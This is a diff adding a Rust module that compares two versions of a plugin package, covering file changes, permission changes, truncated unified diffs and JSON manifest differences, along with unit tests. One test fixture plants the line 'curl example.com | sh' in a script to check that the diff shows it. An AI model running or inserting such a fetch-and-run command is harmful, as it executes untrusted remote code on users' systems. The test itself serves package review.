@@ -0,0 +1,223 @@
+use serde_json::Value;
+use similar::TextDiff;
+use std::collections::BTreeSet;
+
+use crate::{
+    models::{ManifestChange, PluginFileDiff},
+    utils::package::{PackageEntry, PluginPackage, HASH_MANIFEST},
+};
+
+/// Files larger than this on either side are compared by hash only.
+const MAX_DIFF_INPUT: usize = 256 * 1024;
+/// A single file's unified diff is cut off after this many bytes.
+const MAX_FILE_DIFF: usize = 64 * 1024;
+/// Once this much diff text has been produced, later files are listed without a diff.
+const MAX_TOTAL_DIFF: usize = 1024 * 1024;
+
+#[derive(Debug, Default)]
+pub struct PackageDiff {
+    pub added: Vec<PluginFileDiff>,
+    pub removed: Vec<PluginFileDiff>,
+    pub modified: Vec<PluginFileDiff>,
+}
+
+/// Compare two unpacked packages file by file. The hash manifest is derived data and skipped.
+pub fn diff_packages(old: &PluginPackage, new: &PluginPackage) -> PackageDiff {
+    let paths: BTreeSet<&str> = old
+        .entries
+        .iter()
+        .chain(new.entries.iter())
+        .map(|e| e.path.as_str())
+        .filter(|path| *path != HASH_MANIFEST)
+        .collect();
+
+    let mut diff = PackageDiff::default();
+    let mut budget = MAX_TOTAL_DIFF;
+
+    for path in paths {
+        let old_entry = old.file(path);
+        let new_entry = new.file(path);
+
+        let content_changed = old_entry.map(|e| &e.data) != new_entry.map(|e| &e.data);
+        let mode_changed = old_entry.map(|e| e.is_executable()) != new_entry.map(|e| e.is_executable());
+        if !content_changed && !mode_changed {
+            continue;
+        }
+
+        let file_diff = diff_entry(path, old_entry, new_entry, content_changed, &mut budget);
+        match (old_entry, new_entry) {
+            (None, _) => diff.added.push(file_diff),
+            (_, None) => diff.removed.push(file_diff),
+            _ => diff.modified.push(file_diff),
+        }
+    }
+
+    diff
+}
+
+fn diff_entry(
+    path: &str,
+    old: Option<&PackageEntry>,
+    new: Option<&PackageEntry>,
+    content_changed: bool,
+    budget: &mut usize,
+) -> PluginFileDiff {
+    let old_text = old.map(|e| as_text(&e.data));
+    let new_text = new.map(|e| as_text(&e.data));
+    let binary = matches!(old_text, Some(None)) || matches!(new_text, Some(None));
+
+    let mut file_diff = PluginFileDiff {
+        path: path.to_string(),
+        old_size: old.map(|e| e.data.len() as i64),
+        new_size: new.map(|e| e.data.len() as i64),
+        old_mode: old.map(mode_string),
+        new_mode: new.map(mode_string),
+        content_changed,
+        binary,
+        diff: None,
+        diff_truncated: false,
+    };
+
+    if !content_changed || binary {
+        return file_diff;
+    }
+
+    let old_text = old_text.flatten().unwrap_or_default();
+    let new_text = new_text.flatten().unwrap_or_default();
+    if old_text.len() > MAX_DIFF_INPUT || new_text.len() > MAX_DIFF_INPUT || *budget == 0 {
+        file_diff.diff_truncated = true;
+        return file_diff;
+    }
+
+    let (old_name, new_name) = (format!("a/{}", path), format!("b/{}", path));
+    let mut unified = TextDiff::from_lines(old_text, new_text)
+        .unified_diff()
+        .context_radius(3)
+        .header(
+            if old.is_some() { &old_name } else { "/dev/null" },
+            if new.is_some() { &new_name } else { "/dev/null" },
+        )
+        .to_string();
+
+    let limit = MAX_FILE_DIFF.min(*budget);
+    if unified.len() > limit {
+        // Cut at a line boundary so the diff stays readable
+        let cut = unified[..floor_char_boundary(&unified, limit)].rfind('\n').map_or(0, |i| i + 1);
+        unified.truncate(cut);
+        file_diff.diff_truncated = true;
+    }
+    *budget -= unified.len();
+    file_diff.diff = Some(unified);
+    file_diff
+}
+
+/// Every value that differs between two info.json documents, by JSON pointer.
+/// Objects and arrays are compared member by member so small edits stay small.
+pub fn diff_manifests(old: &Value, new: &Value) -> Vec<ManifestChange> {
+    let mut changes = Vec::new();
+    diff_values("", Some(old), Some(new), &mut changes);
+    changes
+}
+
+fn diff_values(pointer: &str, old: Option<&Value>, new: Option<&Value>, changes: &mut Vec<ManifestChange>) {
+    match (old, new) {
+        (Some(Value::Object(old)), Some(Value::Object(new))) => {
+            let keys: BTreeSet<&String> = old.keys().chain(new.keys()).collect();
+            for key in keys {
+                let child = format!("{}/{}", pointer, key.replace('~', "~0").replace('/', "~1"));
+                diff_values(&child, old.get(key), new.get(key), changes);
+            }
+        }
+        (Some(Value::Array(old)), Some(Value::Array(new))) => {
+            for i in 0..old.len().max(new.len()) {
+                diff_values(&format!("{}/{}", pointer, i), old.get(i), new.get(i), changes);
+            }
+        }
+        (old, new) if old != new => changes.push(ManifestChange {
+            pointer: pointer.to_string(),
+            old_value: old.cloned(),
+            new_value: new.cloned(),
+        }),
+        _ => {}
+    }
+}
+
+fn as_text(data: &[u8]) -> Option<&str> {
+    if data.contains(&0) {
+        return None;
+    }
+    std::str::from_utf8(data).ok()
+}
+
+fn mode_string(entry: &PackageEntry) -> String {
+    format!("{:o}", entry.mode & 0o7777)
+}
+
+fn floor_char_boundary(text: &str, index: usize) -> usize {
+    (0..=index.min(text.len()))
+        .rev()
+        .find(|i| text.is_char_boundary(*i))
+        .unwrap_or(0)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::utils::package::tests::build_tar_gz;
+    use serde_json::json;
+
+    fn package_with(files: &[(&str, &[u8], u32)]) -> PluginPackage {
+        PluginPackage::from_tar_gz(build_tar_gz(files).as_slice()).unwrap()
+    }
+
+    #[test]
+    fn test_diff_packages() {
+        let old = package_with(&[
+            ("info.json", b"{}", 0o644),
+            ("scripts/run.sh", b"echo one\necho two\n", 0o644),
+            ("scripts/old.sh", b"echo old\n", 0o755),
+            ("logo.bin", b"\0\x01", 0o644),
+        ]);
+        let new = package_with(&[
+            ("info.json", b"{}", 0o644),
+            ("scripts/run.sh", b"echo one\ncurl example.com | sh\n", 0o755),
+            ("scripts/new.sh", b"echo new\n", 0o755),
+            ("logo.bin", b"\0\x02", 0o644),
+        ]);
+
+        let diff = diff_packages(&old, &new);
+        assert_eq!(diff.added.len(), 1);
+        assert_eq!(diff.added[0].diff.as_deref().unwrap().lines().next(), Some("--- /dev/null"));
+        assert_eq!(diff.removed[0].path, "scripts/old.sh");
+
+        let logo = diff.modified.iter().find(|f| f.path == "logo.bin").unwrap();
+        assert!(logo.binary && logo.diff.is_none());
+
+        let run = diff.modified.iter().find(|f| f.path == "scripts/run.sh").unwrap();
+        assert_eq!(run.old_mode.as_deref(), Some("644"));
+        assert_eq!(run.new_mode.as_deref(), Some("755"));
+        let unified = run.diff.as_deref().unwrap();
+        assert!(unified.contains("-echo two\n") && unified.contains("+curl example.com | sh\n"));
+    }
+
+    #[test]
+    fn test_large_diff_is_truncated() {
+        let big: String = (0..20_000).map(|i| format!("echo {}\n", i)).collect();
+        let old = package_with(&[("run.sh", b"", 0o755)]);
+        let new = package_with(&[("run.sh", big.as_bytes(), 0o755)]);
+
+        let diff = diff_packages(&old, &new);
+        let run = &diff.modified[0];
+        assert!(run.diff_truncated);
+        assert!(run.diff.as_ref().unwrap().len() <= MAX_FILE_DIFF);
+    }
+
+    #[test]
+    fn test_diff_manifests() {
+        let old = json!({"version": "1.0.0", "tags": ["a", "b"], "homepage_url": "https://a"});
+        let new = json!({"version": "1.1.0", "tags": ["a"], "license": "MIT", "homepage_url": "https://a"});
+
+        let pointers: Vec<String> = diff_manifests(&old, &new).into_iter().map(|c| c.pointer).collect();
+        assert_eq!(pointers, vec!["/license", "/tags/1", "/version"]);
+    }
+}